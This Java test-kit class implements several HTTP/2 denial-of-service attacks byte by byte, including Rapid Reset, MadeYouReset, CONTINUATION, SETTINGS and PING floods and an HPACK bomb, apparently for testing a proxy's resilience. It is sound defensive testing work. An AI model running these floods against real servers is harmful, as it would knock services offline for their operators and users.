package dev.sidecar.testkit;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

/**
 * The HTTP/2 attack classes as an attacker sends them, frame by frame on one {@link RawH2}
 * connection: for the proxy's attack tests and the reliability scorecard, which send the same
 * bytes. Each attack stops by itself after {@code rounds} frames or once the server's GOAWAY has
 * arrived; an {@link IOException} means the server closed the connection while it was writing.
 */
public final class H2Attacks {
    private H2Attacks() {}

    /** One attack on one connection. */
    public interface Attack {
        void run(RawH2 attacker, int rounds) throws IOException;
    }

    /** Rapid Reset (CVE-2023-44487): a stream opened and cancelled at once, again and again. */
    public static void rapidReset(RawH2 a, int rounds) throws IOException {
        byte[] block = a.requestBlock("GET", "/delay/2000");
        for (int i = 0, stream = 1; i < rounds && a.goAway() == null; i++, stream += 2) {
            a.headers(stream, RawH2.END_STREAM | RawH2.END_HEADERS, block);
            a.rst(stream, 0x8); // CANCEL
            a.flush();
        }
    }

    /**
     * MadeYouReset (CVE-2025-8671): frames that oblige the server to reset the stream itself, a
     * zero WINDOW_UPDATE on a stream just opened.
     */
    public static void madeYouReset(RawH2 a, int rounds) throws IOException {
        byte[] block = a.requestBlock("POST", "/echo");
        for (int i = 0, stream = 1; i < rounds && a.goAway() == null; i++, stream += 2) {
            a.headers(stream, RawH2.END_HEADERS, block);
            a.windowUpdate(stream, 0); // a stream error: the server must reset the stream
            a.flush();
        }
    }

    /** CONTINUATION flood (CVE-2024-27316 and kin): a header block that never ends. */
    public static void continuationFlood(RawH2 a, int rounds) throws IOException {
        a.headers(1, 0, a.requestBlock("GET", "/never"));
        for (int i = 0; i < rounds && a.goAway() == null; i++) {
            a.frame(RawH2.CONTINUATION, 0, 1, new byte[0]);
            a.flush();
        }
    }

    /** Empty DATA frames without END_STREAM on an open request (CVE-2019-9518). */
    public static void emptyDataFlood(RawH2 a, int rounds) throws IOException {
        a.headers(1, RawH2.END_HEADERS, a.requestBlock("POST", "/echo"));
        for (int i = 0; i < rounds && a.goAway() == null; i++) {
            a.frame(RawH2.DATA, 0, 1, new byte[0]);
            a.flush();
        }
    }

    /**
     * SETTINGS flood (CVE-2019-9515) from a connection made without a reader
     * ({@link RawH2#RawH2(int, int)}): each frame obliges an acknowledgement that queues.
     */
    public static void settingsFlood(RawH2 a, int rounds) throws IOException {
        for (int i = 0; i < rounds; i++) {
            a.frame(RawH2.SETTINGS, 0, 0, new byte[0]);
        }
        a.flush();
    }

    /** PING flood (CVE-2019-9512), as {@link #settingsFlood}. */
    public static void pingFlood(RawH2 a, int rounds) throws IOException {
        byte[] payload = new byte[8];
        for (int i = 0; i < rounds; i++) {
            a.frame(RawH2.PING, 0, 0, payload);
        }
        a.flush();
    }

    /**
     * An HPACK bomb: one 4,000-byte header entered into the dynamic table, then referenced 1,000
     * times — 4 MB decoded from 5 KB — on stream 1, flushed.
     */
    public static void hpackBomb(RawH2 a, int rounds) throws IOException {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.writeBytes(a.requestBlock("GET", "/bomb"));
        block.write(0x40); // literal with incremental indexing, new name
        block.write(6);
        block.writeBytes("x-bomb".getBytes(StandardCharsets.US_ASCII));
        block.write(0x7f); // value length 4000 = 127 + 3873 (RFC 7541 5.1)
        block.write(0x80 | (3873 & 0x7f));
        block.write(3873 >>> 7);
        block.writeBytes("a".repeat(4000).getBytes(StandardCharsets.US_ASCII));
        for (int i = 0; i < 1000; i++) {
            block.write(0x80 | 62); // the newest dynamic table entry
        }
        a.headers(1, RawH2.END_STREAM | RawH2.END_HEADERS, block.toByteArray());
        a.flush();
    }

    /**
     * Runs {@code attack} on a connection: true when the server ended it (for a connection made
     * without a reader, its frames are read and dropped until then) within {@code limit}.
     */
    public static boolean runUntilClosed(RawH2 a, Attack attack, int rounds, Duration limit) throws IOException {
        try {
            attack.run(a, rounds);
            a.flush();
        } catch (IOException e) {
            // the server closed the connection while the attack was still writing
        }
        return a.reads() ? a.awaitClosed(limit) : a.readUntilClosed(limit);
    }
}
